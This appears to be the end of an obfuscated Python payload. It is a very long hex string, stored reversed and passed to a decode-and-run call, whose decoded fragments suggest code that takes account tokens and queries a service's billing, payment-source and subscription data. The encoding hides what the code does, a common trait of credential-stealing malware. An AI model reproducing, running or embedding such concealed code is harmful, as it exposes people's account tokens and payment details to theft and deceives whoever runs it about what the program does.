a0a322353554343455352202d3120292223757471647372282475676e29746f626f54656470797273656460266960202020202020202a09286471607d38647160702c2928647160702c247875647e20737562782374616f6c6e25636e6164737e69427563616274502c29756b6f5960716821647164687f54707972736564602d3029746f626f54656470797273656460202020202020202a0a397274702020202a002020202a0929746f62602c23727564616568602c2864716078247e656d656c647475637f54737f60702d3020737562702020202a09222e2e2e2473756571756270247e656d656c6474756370276e69646e65635228247e696270702020202a002020202a0d702020202a0c22203e273e2832202a322070716d2e6f69637275667d287220202020202020202a0c2924716f5465647375657175627f5878207d616473756d69647f556b696c6f5166716a602a3224716d247375657175627d287220202020202020202a0c29292824346965757e2469657578227473702a3224696d247375657175627d287220202020202020202a0c2769637f58702a3225627574716e6769637d287220202020202020202a0c292365637f556d69647f57696378227473702a32256d69647d25627574716e6769637d287220202020202020202a0c22233672202a3226786d287220202020202020202a0c222d7d572e656b6f647f5469672b537e656b6f647b702275627165624226602a322e6f6964716a79627f686475716220202020202020202a0c29554b4f594051402a3229756b6d2960716d287220202020202020202a0c2145502a32247e6567616d227563757220202020202020202a0c22283d2664757d34756372716863602b3e6f637a6f2e6f69647163696c60707162202a32256079747d247e65647e6f636220202020202020202a0c292222202c222f2f2a337074747862282563616c6075627e2c42555f5940514f55435142402a3224737f686220202020202020202a0b702d3023727564616568602020202a002020202a0920202020202020202a027f666f547e656d6971607020202020202020202020202a0c246f6864756d6f547e656d6971607020202020202020202020202a0c247e656d6971607f5e656b6f647020202020202020202020202a0c237475676271647f547e656d6971607020202020202020202020202a0c2e6769637f5f647f53747020202020202020202020202a0c2d522e656b6f647f537375636361622b537e656b6f647020202020202020202020202a0c29756b6f5960716020202020202020202020202a08247e656d6971607f55627574716e6769637f587f547567602d302769637f58702020202a0d5229746f626f546564707972736e65622b54616f6c6971607f546564707972736e65602d3029746f62602020202a002020202a0e6769637f5f647f5374702d302d52207d616473756d6964722b54616f6c6971607f547e656d656c64747563702020202a0928256e6f6a756d696473716e292364757e256e6f6a756d69647d3a74702c2365637f556d69647f57696378207d616473756d69647d6f62766e256d696475647164602d3024716f5465647375657175627f58702020202a0920303031302f2f20256d69647878202d302365637f556d69647f576963702020202a092d52256d696478722b5d5229746f626f546564707972736e65622b54616f6c6971607f546564707972736e6568247e69602d30256d696478702020202a002020202a09202020202a04616f6c6971607f547e656d656c647475637d34616f6c69716070202020202020202a0c2d522e656b6f647f5469622b537e656b6f647d3e656b6f647f546960202020202020202a0c286471607d3864716070202020202020202a0c2224535f40522d346f6864756d60202020202020202a0c29756b6f5960716d39756b6f59607160202020202020202a0821647164687f5e67696374707972736e65602d3024616f6c6971607f546564707972736e65602020202a002020202a0d702020202a092928256d69647e256d696478247e69602a32207d616473756d69647220202020202020202a0c246f6864756d6f547e656d697160702a32246f6864756d6f547e656d6971607220202020202020202a0c247e656d6971607f5e656b6f64702a322e656b6f647f5e6f696471636966696275667220202020202020202a0c237d656479602a32237d6564796220202020202020202a0c222e6562202a32276e616c6220202020202020202a0c25637c6166402a32247e696f607f5563757f53796220202020202020202a0c20302a322565666f5c61647f647220202020202020202a0c247e696f547e657f6d61602a32247e657f6d616f5c61647f647220202020202020202a0c2d7b702a32216471646f5c616e6f6964796464616220202020202020202a0c2275626d657e6f54756c6c6167702a322275626d657e6f54756c6c61677220202020202020202a0c25637c6166402a3224756c6c61677f5c68797d6f53796220202020202020202a0c2d522e656b6f647f537375636361622b537e656b6f64702a322e656b6f647f5373756363616220202020202020202a0c2222202a32256079747f547e656d6971607f53636220202020202020202a0c2d70202020202020202a0d7020202020202020202020202a00302a3225657c616672202020202020202020202020202020202a0c2222202a322560797472202020202020202020202020202020202a0c2222202a322c6562616c62202020202020202020202020202020202a0b702a32276e69647475637f546c6f6863756278647f5975726f647571622020202020202020202020202a0c2222202a3225646f636f5975726f6475716f546564716679647361622020202020202020202020202a0c25637c6166402a322975726f6475716f576e6963757f5379622020202020202020202020202a0b702a322975726f6475716220202020202020202a0c25637c6166402a3225637962707275647e656f53796220202020202020202a0c2222202a322275626d657e6f5075707f647220202020202020202a0c227f666f547e656d697160702a32227f666f547e656d6971607220202020202020202a0c2222202a322e6f60757f636220202020202020202a0c20302a32247e657f636379646f5c61647f647220202020202020202a0c25637c6166402a32276e696471627f527567676962747f5e61636220202020202020202a0c2d70202020202020202a0d5b502a32237275626d656d622020202020202020202020202a0c2222202a322371696c616f547e656271607f5261627b61622020202020202020202020202a0c2d5b502a32237275626d656d6f5261627b61622020202020202020202020202a0b702a322261627b616220202020202020202a0b702d3024616f6c6971607f547e656d656c64747563702020202a0224756c6c6167756f247e656d69716079647c657d6d247e656d656c647475637f28367f2960716f23747e656d69716072202d3028647160702020202a0473756571756270247e656d656c647475635023202020202a0a0a0d52207d616473756d6964722b5d5221647164622b5375627f547e656d697160702d302e6769637f5f647f5374702020202a0d52247e656d6971607f5e656b6f64722b5d5221647164622b5375627f547e656d697160702d30247e656d6971607f5e656b6f64702020202a002020202a056e6f6e402e627574756270202020202020202a09222d7375627f547e656d6971607b702a327f627275422668247e69627070202020202020202a09222e23746f6864756d60247e656d697160702863647566602f647024656c6961664228247e69627070202020202020202a0a322353554343455352202d31202d52237574716473722b5375627f547e656d697160702669602020202a092224535f4052202c2d522e656b6f647f5469622b537e656b6f64702c24616f6c6971607f547e656d697160702c286471607f547e656d697160702c29756b6f59607168247375657175627f5960716f546e6563702d302375627f547e656d697160702020202a09222e2e2e23746f6864756d60247e656d69716070276e69647475674228247e696270702020202a002020202a0d702020202a0e6f6964716d6279666e6f636f5e656b6f64702a322e6f6964716d6279666e6f636f5e656b6f647220202020202020202a0c25637c6166402a322c616272756665627f53796220202020202020202a0c222e6562202a32276e616c6220202020202020202a0c2d5225646f636f5d656479622b5d503b537d656479602a322475676271647f547e656d6971607220202020202020202a0c25637c6166402a3225637962707275647e656f53796220202020202020202a0c22254351484342555052202a32256079747f547e656d6971607220202020202020202a0b702d3024616f6c6971607f547e656d697160702020202a022e6f6964707f6d23746f6864756d6d247e656d6971607f28367f2960716f23747e656d69716072202d30286471607f547e656d697160702020202a03746f6864756d60247e656d697160702475674023202020202a002020202a0925637c6166402c2d5225646f636f5d656479622b5d503b537d656479602c237e656b6f64702c29756b6f59607168256761607f547075636275647e69602020202a002020202a056e6f6e402e62757475627023202020202020202020202020202020202a09222e2563696270702c616e696769627f60276e696375702c2475707e696025647962777275667f6024696c61667e694228247e696270702020202020202020202020202020202a0a327f62727545657c6166502470756368756020202020202020202020202a092274737f547e657f6d6168247e69602d30247e696f547e657f6d61602020202020202020202020202020202a0a3972747020202020202020202020202a0a3222202d31202274737f547e657f6d6160266960202020202020202a0922202a347e657f6d6160247c65716665646025637570262025627f6e6769602f64702275647e6560237375627052282475707e69602d302274737f547e657f6d6160202020202020202a09222e25647962777275667f602f64702465656e60257f6970266960247e657f6d616027756e602275647e654e6c5e2d747e696f547e657f6d616b70237960247e657f6d61602c61647f64522668247e69627070202020202020202a0a35647962777275667f6f5b6371602669602020202a05647962777275667f4023202020202a0a05647962777275667f6f547e657f6d61602d30247e696f547e657f6d6160202020202020202a0a356e6f6e40247f6e6023796025647962777275667f6f547e657f6d61602669602020202a0a0d5225636962707f5d656479622b5d503b537d656479602d30247e696f547e657f6d6160202020202020202a0a32247372796662202d3d30246563757f547e657f6d61602669602020202a09237d656479602e69602d65647960227f66602920302c2225636962707f5d65647962282475676e2d656479682d6573702d30247e696f547e657f6d61602020202a037d656479602c6c6160266f602d65737025686470237960247e657f6d6160247c65716665644023202020202a00202020202020202a0d5225646f636f5d656479622b5d656479602d3b20237475676271647f547e656d69716070202020202020202a022b32202d3b20237475676271647f547e656d6971607020202020202020202020202a0a3222202d3120237475676271647f547e656d69716070266960202020202020202a0a337d656479602e69602d65647960227f66602020202a0222202d30237475676271647f547e656d697160702020202a0d522e6f6964716d6279666e6f636f5e656b6f64722b5d503b537d656479602d302e6f6964716d6279666e6f636f5e656b6f64702020202a0a392a056e6f6e402d30256e6f6e402c70247e69602a35647962777275667f6f547e657f6d61602020202a0c2222202d30227473702a346563757f547e657f6d61602020202a0c2c6f6f62602a35647962777275667f6f5b6371602020202a0c227f666f547e656d697160702020202a0c246f6864756d6f547e656d697160702020202a0c227473702a3275626d657e6f54756c6c6167702020202a0c2d5d656479447e656d6971605b5473796c602a337d656479602020202a0c24736964602a337e656b6f64702020202a0c227473702a39756b6f596071602020202a0822367f547e656d69716079647c657d6f547e656d656c64747563702665646a0a0e6275747562702020202a09222e2e6162716971626d6560702e616b696163756c65697e656d602b65747e657021646e61402f465f402963716b696c607160216b6572602e616b68616c69635228247e69627070202020202020202a0a35637c65602020202a09222d7b6e696c607565646b7e6c5a34757b69627562602b6e696c6029657c616c656d602e6162716971626d6560702e616b696163756c6563702e616b68616c6963522668247e6962707020202020202020202020202a0a3b6e696c6075656460266960202020202020202a092222202c222b6e696c6075656462282475676e2d5221647164622b55637e6f607375627f547e656d656c64747563702d302b6e696c6075656460202020202020202a0a322f465f42202d3120246f6864756d6f547e656d697160702669602020202a002020202a0e627574756270202020202020202a09222d75637e6f607375627f547e656d656c647475637b702a327f627275422668247e69627070202020202020202a09222e247e656d656c64747563702564716964796e69602f647024656c6961664228247e69627070202020202020202a0a322353554343455352202d31202d52237574716473722b55637e6f607375627f547e656d656c64747563702669602020202a09222d79223d347e65646e69602c25637e6f607375627f547e656d656c647475637823707d65746e2e6f637a6b702a35637e6f6073756270247e656d656c64747563522668247e6962707023202020202a002020202a09202020202a046f6864756d6f547e656d69716070202020202020202a0c256d616e6f5d65647960202020202020202a0c2275626d657e6f54756c6c616770202020202020202a0c247e696f547e657f6d6160202020202020202a0c256369627070202020202020202a0c25646f636f5e6f6964707f6f5567616b63616070202020202020202a0c2e6769637f5f647f537470202020202020202a0c247e656d6971607f5e656b6f6470202020202020202a0c237e656b6f6470202020202020202a0c29756b6f59607160202020202020202a08247e656d69716079647c657d6f547e656d656c64747563702d3025637e6f607375627f547e656d656c64747563702020202a002020202a05657e69647e6f636020202020202020202020202a09222e24696c6166702b61646964702e6168696c69605228247e6962707020202020202020202020202a0a35637c6560202020202020202a05637c6166402d30246f6864756d6f547e656d6971607f576e69637f6f68636020202020202020202020202a05657e69647e6f63602020202020202020202020202020202a09222e22716e656260276e616970276e616a6e616070296b696c696d656d602e61646027283037202e61676e656460296c616771696460227f6d6f6e602e616b6964737160502e24696c6166702b61646964702f465f40227f6d6f6e4228247e696270702020202020202020202020202020202a0a3331302e30292275626d657e6f54756c6c6167782e656c60227f602031302c30292275626d657e6f54756c6c6167782e656c60227f602928247967696463796e2275626d657e6f54756c6c616770247f6e60227f60292228303228286479677374727164737e2275626d657e6f54756c6c616770247f6e6026696020202020202020202020202a04716d627f66602275626d657e6025647164696c616650232020202020202020202020202a0922202a392938373635343332313830302a386f647e6f6368202f465f40227f6d6f6e602e616b6b6573716d42282475707e69602d302275626d657e6f54756c6c61677020202020202020202020202a022f465f42202d30246f6864756d6f547e656d6971607020202020202020202020202a0a322432202d3d302563696f68636026696c6560202020202020202a05637c6166402d30246f6864756d6f547e656d6971607f576e69637f6f68636020202020202020202020202a022951405f4742202d30246f6864756d6f547e656d6971607020202020202020202020202a0a322332202d3d302563696f68636026696c6560202020202020202a05637c6166402d30246f6864756d6f547e656d6971607f576e69637f6f68636020202020202020202020202a022951405545405f484352202d30246f6864756d6f547e656d6971607020202020202020202020202a0a322232202d3d302563696f68636026696c6560202020202020202a05637c6166402d30246f6864756d6f547e656d6971607f576e69637f6f68636020202020202020202020202a05657e69647e6f63602020202020202020202020202020202a09222e22716e656260276e616970276e616a6e616070296b696c696d656d602e61646027283037202e61676e656460296c616771696460227f6d6f6e602e616b6964737160502e24696c6166702b6164696470214e414440227f6d6f6e4228247e696270702020202020202020202020202020202a0a3331302e30292275626d657e6f54756c6c6167782e656c60227f602031302c30292275626d657e6f54756c6c6167782e656c60227f602928247967696463796e2275626d657e6f54756c6c616770247f6e60227f60292228303228286479677374727164737e2275626d657e6f54756c6c616770247f6e6026696020202020202020202020202a04716d627f66602275626d657e6025647164696c616650232020202020202020202020202a0922202a392938373635343332313830302a386f647e6f636820214e414440227f6d6f6e602e616b6b6573716d42282475707e69602d302275626d657e6f54756c6c61677020202020202020202020202a02214e414442202d30246f6864756d6f547e656d6971607020202020202020202020202a0a322132202d3d302563696f686360266960202020202020202a0922202a3e6162716971626d65607025646f64756d6028696c696052282475707e69602d302563696f686360202020202020202a09222f465f402e243e6c5971605f67402e233e6c5971605565607f6863502e223e6c514e4144402e213228247e69627070202020202020202a09222a34756c6c61675d25402e6168696c69605228247e69627070202020202020202a0222202d302275626d657e6f54756c6c616770202020202020202a0222202d30246f6864756d6f547e656d69716070202020202020202a0a346f6864756d6f547e656d6971607f576e69637f6f686360256c696867702020202a05657274502d30246f6864756d6f547e656d6971607f576e69637f6f6863602020202a002020202a056e6f6e402e62757475627020202020202020202020202a09222e2563696270702c616e696769627f60276e696375702c2475707e696025647962777275667f6024696c61667e694228247e6962707020202020202020202020202a0a327f62727545657c61665024707563687560202020202020202a092274737f547e657f6d6168247e69602d30247e696f547e657f6d616020202020202020202020202a0a39727470202020202020202a0a3222202d31202274737f547e657f6d61602669602020202a002020202a0563696270702d30247e696f547e657f6d61602020202a0922202a347e657f6d6160247c65716665646025637570262025627f6e6769602f64702275647e65602373756270702c25647962777275667f602f64702465656e60257f697026696025657c6166702275647e654e6c5e2d75636962707b70237960247e657f6d61602c61647f645226682475707e69602d302274737f547e657f6d61602020202a002020202a0d52207d616473756d6964722b516471646f53746f6864756d6f547e656d697160702d302e6769637f5f647f5374702020202a0d52247e656d6971607f5e656b6f64722b516471646f53746f6864756d6f547e656d697160702d30247e656d6971607f5e656b6f64702020202a002020202a09202020202a0c25646f636f5e6f6964707f6f5567616b6361607d3475676271647f547e656d69716070202020202020202a0c2e6f6964716d6279666e6f636f5e656b6f647d3e6f6964716d6279666e6f636f5e656b6f6470202020202020202a0c237e656b6f647d337e656b6f6470202020202020202a0c29756b6f5960716d39756b6f59607160202020202020202a0823746f6864756d6f547e656d6971607f547567602d30216471646f53746f6864756d6f547e656d697160702020202a002020202a09222e2e2e23746f6864756d60247e656d69716070256c62616c6961667160276e6968636475664228247e696270702020202a0a392222202d30227473702a356d616e6f5d656479602c247e69602a3563696270702c227473702a3e6f6964716d6279666e6f636f5e656b6f64702c227473702a35646f636f5e6f6964707f6f5567616b636160702c24736964602a337e656b6f64702c227473702a39756b6f59607168247e656d69716079647c657d6f577f6863702665646a0a047875647e20737562702e627574756270202020202020202a0925602c222d52727560247079727365646b5228247e69627070202020202020202a0a35602371602e6f6964707563687540247075636875602020202a09746f626f546564707972736564602e627574756270202020202020202a09286471607d38647160702c2928647160702c247875647e20737562782374616f6c6e25636e6164737e69427563616274502c29756b6f5960716821647164687f54707972736564602d3029746f626f54656470797273656460202020202020202a0a397274702020202a002020202a0929746f62602c23727564616568602c2864716078247e656d656c647475637f54737f60702d3020737562702020202a09222e2e2e2473756571756270247e656d656c6474756370276e69646e65635228247e696270702020202a002020202a0d702020202a0c22203e273e2832202a322070716d2e6f69637275667d287220202020202020202a0c2924716f5465647375657175627f5878207d616473756d69647f556b696c6f5166716a602a3224716d247375657175627d287220202020202020202a0c29292824346965757e2469657578227473702a3224696d247375657175627d287220202020202020202a0c2769637f58702a3225627574716e6769637d287220202020202020202a0c292365637f556d69647f57696378227473702a32256d69647d25627574716e6769637d287220202020202020202a0c22233672202a3226786d287220202020202020202a0c222d7d572e656b6f647f5469672b537e656b6f647b702275627165624226602a322e6f6964716a79627f686475716220202020202020202a0c29554b4f594051402a3229756b6d2960716d287220202020202020202a0c2145502a32247e6567616d227563757220202020202020202a0c22283d2664757d34756372716863602b3e6f637a6f2e6f69647163696c60707162202a32256079747d247e65647e6f636220202020202020202a0c292222202c222f2f2a337074747862282563616c6075627e2c42555f5940514f55435142402a3224737f686220202020202020202a0b702d3023727564616568602020202a002020202a0920202020202020202a046f6864756d6f547e656d6971607020202020202020202020202a0c247e656d6971607f5e656b6f647020202020202020202020202a0c2475676271647f547e656d6971607020202020202020202020202a0c2e6769637f5f647f53747020202020202020202020202a0c2d522e656b6f647f537375636361622b537e656b6f647020202020202020202020202a0c29756b6f5960716020202020202020202020202a08247e656d6971607f55627574716e6769637f587f547567602d302769637f58702020202a0d5229746f626f546564707972736e65622b54616f6c6971607f546564707972736e65602d3029746f62602020202a002020202a0e6769637f5f647f5374702d302d52207d616473756d6964722b54616f6c6971607f547e656d656c64747563702020202a0928256e6f6a756d696473716e292364757e256e6f6a756d69647d3a74702c2365637f556d69647f57696378207d616473756d69647d6f62766e256d696475647164602d3024716f5465647375657175627f58702020202a0920303031302f2f20256d69647878202d302365637f556d69647f576963702020202a092d52256d696478722b5d5229746f626f546564707972736e65622b54616f6c6971607f546564707972736e6568247e69602d30256d696478702020202a002020202a09202020202a04616f6c6971607f547e656d656c647475637d34616f6c69716070202020202020202a0c2d522e656b6f647f5469622b537e656b6f647d3e656b6f647f546960202020202020202a0c286471607d3864716070202020202020202a0c2224535f40522d346f6864756d60202020202020202a0c29756b6f5960716d39756b6f59607160202020202020202a0821647164687f5e67696374707972736e65602d3024616f6c6971607f546564707972736e65602020202a002020202a0d702020202a092928256d69647e256d696478247e69602a32207d616473756d69647220202020202020202a0c246f6864756d6f547e656d697160702a32246f6864756d6f547e656d6971607220202020202020202a0c247e656d6971607f5e656b6f64702a322e656b6f647f5e6f696471636966696275667220202020202020202a0c2d5d70202020202020202a00302a32287164722020202020202020202020202a0c256d616e6f5d656479602a32256d616e6f5d656479622020202020202020202020202a0c2563696270702a3225636962707f5d656479622020202020202020202020202a0c2222202a32256079747f547365746f6270722020202020202020202020202a0c2475676271647f547e656d697160702a3225646f636f5d656479622020202020202020202020202a0b7b502a32237d6564796220202020202020202a0c222e6562202a32276e616c6220202020202020202a0c25637c6166402a32247e696f607f5563757f53796220202020202020202a0c20302a322565666f5c61647f647220202020202020202a0c247e696f547e657f6d61602a32247e657f6d616f5c61647f647220202020202020202a0c2d70202020202020202a00302a322f6d6f62707f547e657f63637964622020202020202020202020202a0c25637c6166402a3223757e6f626f537168622020202020202020202020202a0c20302a32276e696272757365627f547e657f63637964622020202020202020202020202a0c25637c6166402a322e616c607f5863647967737f5379622020202020202020202020202a0c2d5b502a32237c69616475646f5f626d6f63622020202020202020202020202a0c25637c6166402a322e616c607f597c696d61666f5379622020202020202020202020202a0c2222202a3227616478637163622020202020202020202020202a0c20302a3223757e6f626f51647f6571722020202020202020202020202a0c2222202a32256079747f547966656e6562622020202020202020202020202a0c20302a32287164722020202020202020202020202a0c25637c6166402a3224796d696c6f546e6560737f5379622020202020202020202020202a0c20302a32247e657f6d616f54796d696c6f546e656073722020202020202020202020202a0c2222202a32256079747f5e6f6964716277696d622020202020202020202020202a0c25637c6166402a32297271627f607d65647f54796d696c6f546e6560737f5379622020202020202020202020202a0c2563696270702a3225636962707f5c616e696769627f622020202020202020202020202a0b702a32216471646f5c616e6f6964796464616220202020202020202a0c2275626d657e6f54756c6c6167702a322275626d657e6f54756c6c61677220202020202020202a0c25637c6166402a3224756c6c61677f5c68797d6f53796220202020202020202a0c2d522e656b6f647f537375636361622b537e656b6f64702a322e656b6f647f5373756363616220202020202020202a0c2222202a32256079747f547e656d6971607f53636220202020202020202a0c2d70202020202020202a0d7020202020202020202020202a00302a3225657c616672202020202020202020202020202020202a0c2222202a322560797472202020202020202020202020202020202a0c2222202a322c6562616c62202020202020202020202020202020202a0b702a32276e69647475637f546c6f6863756278647f5975726f647571622020202020202020202020202a0c2222202a3225646f636f5975726f6475716f546564716679647361622020202020202020202020202a0c25637c6166402a322975726f6475716f576e6963757f5379622020202020202020202020202a0b702a322975726f6475716220202020202020202a0c25637c6166402a3225637962707275647e656f53796220202020202020202a0c2222202a322275626d657e6f5075707f647220202020202020202a0c222547414b4341405f59555242202a32227f666f547e656d6971607220202020202020202a0c2222202a322e6f60757f636220202020202020202a0c20302a32247e657f636379646f5c61647f647220202020202020202a0c25637c6166402a32276e696471627f527567676962747f5e61636220202020202020202a0c2d70202020202020202a0d5b502a32237275626d656d622020202020202020202020202a0c2222202a322371696c616f547e656271607f5261627b61622020202020202020202020202a0c2d5b502a32237275626d656d6f5261627b61622020202020202020202020202a0b702a322261627b616220202020202020202a0b702d3024616f6c6971607f547e656d656c64747563702020202a0224756c6c6167756f247e656d69716079647c657d6d247e656d656c647475637f28367f2960716f23747e656d69716072202d3028647160702020202a0473756571756270247e656d656c647475635023202020202a0a392a02214e414442202d30227473702a346f6864756d6f547e656d697160702020202a0c2222202d30227473702a356d616e6f5d656479602020202a0c227473702a3275626d657e6f54756c6c6167702020202a0c247e69602a347e696f547e657f6d61602020202a0c247e69602a3563696270702020202a0c227473702a3475676271647f547e656d697160702020202a0c247e69602a3e6769637f5f647f5374702020202a0c227473702a347e656d6971607f5e656b6f64702020202a0c24736964602a337e656b6f64702020202a0c227473702a39756b6f596071602020202a08247e656d69716079647c657d6f547e656d656c64747563702665646a0a0d656479447e656d6971605024727f607d6960247369646f556079747e207071602d6f62766a0a03746f6864756d6f547e656d6971607f5475676024727f607d696025637168636275707e247e65696c63602e207071602d6f62766a09747e657f626f55627574716e6769637f587f547567602c247e656d6971607f55627574716e6769637f587f547567602c207d616473756d69647f556b696c6f5166716a602c21647164687f5e67696374707972736e65602c21647164687f54707972736564602c246c6569666f546564707972736e656f546c696572602c29554b4f5940514024727f607d696024707972736e656e247e65696c636e207071602d6f62766a05636e6164737e694275636162745024727f607d6960276e69636162747e256369667275637e207071602d6f62766a0a2024727f607d69602c6563776e656e247e65696c636e207071602d6f62766a056d69647024727f607d696a0a046965757024727f607d696a01647c6564656d6964702c256e6f6a756d6964702c256d6964756471646024727f607d6960256d696475647164602d6f62766" ));